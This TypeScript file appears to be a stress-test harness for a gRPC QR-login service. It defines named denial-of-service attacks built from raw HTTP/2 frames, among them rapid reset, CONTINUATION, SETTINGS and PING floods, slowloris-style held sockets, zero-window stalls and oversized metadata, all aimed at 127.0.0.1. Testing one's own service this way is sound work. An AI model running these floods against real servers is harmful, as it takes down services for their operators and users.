import { once } from "node:events";
import type { Socket } from "node:net";
import { connect } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import {
  CreateTicketRequest,
  CreateTicketResponse,
  GetStatusRequest,
  WatchStatusRequest,
} from "../gen/qrlogin/v1/qr_login_service.js";
import { frameMessage, ticketRequest } from "./calls.js";
import {
  type Endpoint,
  type FramePeer,
  flag,
  frame,
  frameType,
  type HeaderFields,
  headerBlock,
  headersFrames,
  openFramePeer,
  openSocket,
  settingsFrame,
  uint32,
} from "./http2_frames.js";
import { openRawClient } from "./raw_calls.js";

/**
 * Attack that runs until the process is killed.
 *
 * @param begun Must be called after the preparations.
 */
type Attack = (endpoint: Endpoint, authorization: string, begun: () => void) => Promise<unknown>;

const settingId = { initialWindow: 4 } as const;
const methodPath = (method: string) => `/qrlogin.v1.QrLoginService/${method}`;
const healthPath = (method: string) => `/grpc.health.v1.Health/${method}`;

function createHeaderFields(path: string, authorization = "", more: HeaderFields = []): HeaderFields {
  return [
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", "localhost"],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
    ...(authorization === "" ? [] : ([["authorization", authorization]] as const)),
    ...more,
  ];
}

const createHeaderBlock = (...words: Parameters<typeof createHeaderFields>) =>
  headerBlock(createHeaderFields(...words));

/** Returns a request with its complete body. */
function wholeCall(stream: number, block: Buffer, body: Buffer): Buffer {
  return Buffer.concat([
    headersFrames(stream, block, false),
    frame(frameType.data, flag.endStream, stream, body),
  ]);
}

/** Keeps the given number of connections busy with the work. Replaces a connection that is closed. */
async function onConnections(
  count: number,
  open: (index: number) => Promise<FramePeer>,
  work: (peer: FramePeer, index: number) => Promise<unknown>,
): Promise<void> {
  await Promise.all(
    Array.from({ length: count }, async (_, index) => {
      for (;;) {
        const peer = await open(index);
        while (!peer.isClosed()) await work(peer, index);
        await pause(100);
      }
    }),
  );
}

const untilClosed = async (peer: FramePeer) => {
  while (!peer.isClosed()) await peer.change();
};

/** Opens streams, a hundred at a time, up to the given number, and holds them. */
async function openStreams(
  peer: FramePeer,
  count: number,
  request: (stream: number) => Buffer,
): Promise<void> {
  for (let opened = 0; opened < count && !peer.isClosed(); opened += 100) {
    await peer.send(Buffer.concat(Array.from({ length: 100 }, () => request(peer.nextStream()))));
  }
}

/** Keeps the given number of calls in progress. */
async function keepCalling(
  peer: FramePeer,
  atOnce: number,
  request: (stream: number) => Buffer,
): Promise<void> {
  let sent = 0;
  while (!peer.isClosed()) {
    const room = atOnce - (sent - peer.finished());
    if (room > 0) {
      sent += room;
      await peer.send(Buffer.concat(Array.from({ length: room }, () => request(peer.nextStream()))));
    } else await peer.change();
  }
}

/** Sends the same bytes repeatedly. */
async function repeat(peer: FramePeer, bytes: (peer: FramePeer) => Buffer): Promise<void> {
  while (!peer.isClosed()) {
    await peer.send(bytes(peer));
    await pause(0);
  }
}

/** Holds the given number of sockets. Replaces a socket that is closed. */
async function holdSockets(count: number, open: (index: number) => Promise<Socket>): Promise<void> {
  await Promise.all(
    Array.from({ length: count }, async (_, index) => {
      for (;;) {
        const socket = await open(index);
        socket.resume();
        if (!socket.destroyed) await once(socket, "close").catch(() => {});
        await pause(200);
      }
    }),
  );
}

async function tcpSocket({ port }: Endpoint, localAddress = "127.0.0.1"): Promise<Socket> {
  const socket = connect({ host: "127.0.0.1", port, localAddress });
  socket.on("error", () => socket.destroy());
  await Promise.race([once(socket, "connect").catch(() => {}), once(socket, "close").catch(() => {})]);
  return socket;
}

const check = createHeaderBlock(healthPath("Check"));
const watchHealth = createHeaderBlock(healthPath("Watch"));
const empty = frameMessage(Buffer.alloc(0));
const reflect = createHeaderBlock("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo");
/** Requests the file that contains our service: field 4, file_containing_symbol. */
const symbol = Buffer.from("qrlogin.v1.QrLoginService");
const reflectionRequest = frameMessage(Buffer.concat([Buffer.from([0x22, symbol.length]), symbol]));
/** TLS 1.2 record with the start of a ClientHello of 512 bytes. */
const helloStart = Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);

/** Attacks by name. Each floods the service in one way, from one machine. */
export const attacks: Readonly<Record<string, Attack>> = {
  "health watches: 30,000 on one connection": (endpoint) =>
    onConnections(
      1,
      () => openFramePeer(endpoint),
      async (peer) => {
        await openStreams(peer, 30_000, (stream) => wholeCall(stream, watchHealth, empty));
        await untilClosed(peer);
      },
    ),
  "missing bodies: 30 x 1,000": (endpoint, authorization) => {
    const block = createHeaderBlock(methodPath("CreateTicket"), authorization);
    return onConnections(
      30,
      () => openFramePeer(endpoint),
      async (peer) => {
        await openStreams(peer, 1_000, (stream) => headersFrames(stream, block, false));
        await untilClosed(peer);
      },
    );
  },
  "metadata: 10,000 x 40 KB": (endpoint) => {
    const block = createHeaderBlock(healthPath("Check"), "", [["x-filler", "x".repeat(40_000)]]);
    return onConnections(
      10,
      () => openFramePeer(endpoint),
      async (peer) => {
        for (let sent = 0; sent < 1_000 && !peer.isClosed(); sent++)
          await peer.send(headersFrames(peer.nextStream(), block, true));
        await untilClosed(peer);
      },
    );
  },
  "metadata: 20 x 1,000 x 18 KB, no body": (endpoint) => {
    const block = createHeaderBlock(healthPath("Check"), "", [["x-filler", "x".repeat(18_000)]]);
    return onConnections(
      20,
      () => openFramePeer(endpoint),
      async (peer) => {
        for (let sent = 0; sent < 1_000 && !peer.isClosed(); sent++)
          await peer.send(headersFrames(peer.nextStream(), block, false));
        await untilClosed(peer);
      },
    );
  },
  "silent TCP peers: 3,000": (endpoint) => holdSockets(3_000, () => tcpSocket(endpoint)),
  "slow TLS handshakes: 3,000": (endpoint) =>
    holdSockets(3_000, async () => {
      const socket = await tcpSocket(endpoint);
      socket.write(helloStart);
      return socket;
    }),
  "preface, then silence: 3,000": (endpoint) =>
    holdSockets(3_000, async () => {
      const socket = await openSocket(endpoint);
      socket.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
      return socket;
    }),
  "connections: 20,000 of one address": async (endpoint) => {
    const peers: FramePeer[] = [];
    for (;;) {
      const peer = await openFramePeer(endpoint);
      await peer.send(wholeCall(peer.nextStream(), check, empty));
      peers.push(peer);
      if (peers.length > 8_000) peers.shift()?.close();
    }
  },
  "unread responses: on 2,500 connections": (endpoint) =>
    // With a window of 0, each request is complete and no response can be sent.
    onConnections(
      2_500,
      () => openFramePeer(endpoint, { [settingId.initialWindow]: 0 }),
      async (peer) => {
        await peer.send(wholeCall(peer.nextStream(), check, empty));
        await Promise.race([untilClosed(peer), pause(5_000)]);
      },
    ),
  "SETTINGS flood": (endpoint) => {
    const bytes = Buffer.concat(Array.from({ length: 500 }, () => settingsFrame({ 4: 65_535 })));
    return onConnections(
      8,
      () => openFramePeer(endpoint),
      (peer) => repeat(peer, () => bytes),
    );
  },
  "PING flood": (endpoint) => {
    const bytes = Buffer.concat(
      Array.from({ length: 500 }, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))),
    );
    return onConnections(
      8,
      () => openFramePeer(endpoint),
      (peer) => repeat(peer, () => bytes),
    );
  },
  "WINDOW_UPDATE flood": (endpoint) => {
    const open = async () => {
      const peer = await openFramePeer(endpoint);
      await peer.send(wholeCall(peer.nextStream(), watchHealth, empty));
      return peer;
    };
    const bytes = Buffer.concat(
      Array.from({ length: 500 }, () => frame(frameType.windowUpdate, 0, 1, uint32(1))),
    );
    return onConnections(8, open, (peer) => repeat(peer, () => bytes));
  },
  "rapid reset": (endpoint, authorization) => {
    const block = createHeaderBlock(methodPath("CreateTicket"), authorization);
    const body = frameMessage(CreateTicketRequest.encode(ticketRequest).finish());
    return onConnections(
      8,
      () => openFramePeer(endpoint),
      (peer) =>
        repeat(peer, () =>
          Buffer.concat(
            Array.from({ length: 100 }, () => {
              const stream = peer.nextStream();
              return Buffer.concat([
                wholeCall(stream, block, body),
                frame(frameType.reset, 0, stream, uint32(8)),
              ]);
            }),
          ),
        ),
    );
  },
  "CONTINUATION flood": (endpoint) => {
    const filler = frame(frameType.continuation, 0, 1, headerBlock([["x", "x".repeat(1_000)]]));
    const bytes = Buffer.concat(Array.from({ length: 50 }, () => filler));
    return onConnections(
      8,
      () => openFramePeer(endpoint),
      async (peer) => {
        await peer.send(frame(frameType.headers, 0, peer.nextStream(), check));
        await repeat(peer, () => bytes);
      },
    );
  },
  "reflection: 100,000 requests, nothing read": (endpoint) =>
    onConnections(
      4,
      () => openFramePeer(endpoint, { [settingId.initialWindow]: 0 }),
      async (peer) => {
        const stream = peer.nextStream();
        await peer.send(headersFrames(stream, reflect, false));
        const some = Array.from({ length: 100 }, () => frame(frameType.data, 0, stream, reflectionRequest));
        // Sends as much as the server's window allows.
        for (let sent = 0; sent < 2_000 && !peer.isClosed(); sent += 100)
          await peer.send(Buffer.concat(some));
        await untilClosed(peer);
      },
    ),
  "watches of one app: 40,000": async (endpoint, authorization, begun) => {
    const client = await openRawClient(`${endpoint.tls ? "https" : "http"}://127.0.0.1:${endpoint.port}`);
    const creation = frameMessage(CreateTicketRequest.encode(ticketRequest).finish());
    const block = createHeaderBlock(methodPath("WatchStatus"), authorization);
    const bodies: Buffer[] = [];
    const create = async () => {
      const { ticketId, ticketSecret } = CreateTicketResponse.decode(
        await client.unary("CreateTicket", creation, authorization),
      );
      bodies.push(frameMessage(WatchStatusRequest.encode({ ticketId, ticketSecret }).finish()));
    };
    while (bodies.length < 10_000) await Promise.all(Array.from({ length: 100 }, create));
    begun();
    await onConnections(
      40,
      () => openFramePeer(endpoint),
      async (peer, index) => {
        let next = index * 1_000;
        await keepCalling(peer, 990, (stream) =>
          wholeCall(stream, block, bodies[next++ % bodies.length] ?? empty),
        );
      },
    );
  },
  "unary calls of one app": (endpoint, authorization) => {
    const create = createHeaderBlock(methodPath("CreateTicket"), authorization);
    const status = createHeaderBlock(methodPath("GetStatus"), authorization);
    const creation = frameMessage(CreateTicketRequest.encode(ticketRequest).finish());
    const asking = frameMessage(
      GetStatusRequest.encode({ ticketId: "a".repeat(22), ticketSecret: "b".repeat(43) }).finish(),
    );
    return onConnections(
      20,
      () => openFramePeer(endpoint),
      (peer, index) =>
        keepCalling(peer, 200, (stream) =>
          index % 2 === 0 ? wholeCall(stream, create, creation) : wholeCall(stream, status, asking),
        ),
    );
  },
  "unauthenticated calls": (endpoint) => {
    const block = createHeaderBlock(methodPath("CreateTicket"), "Basic bm9ib2R5Ondyb25n");
    const body = frameMessage(CreateTicketRequest.encode(ticketRequest).finish());
    return onConnections(
      20,
      () => openFramePeer(endpoint),
      (peer) => keepCalling(peer, 100, (stream) => wholeCall(stream, block, body)),
    );
  },
};
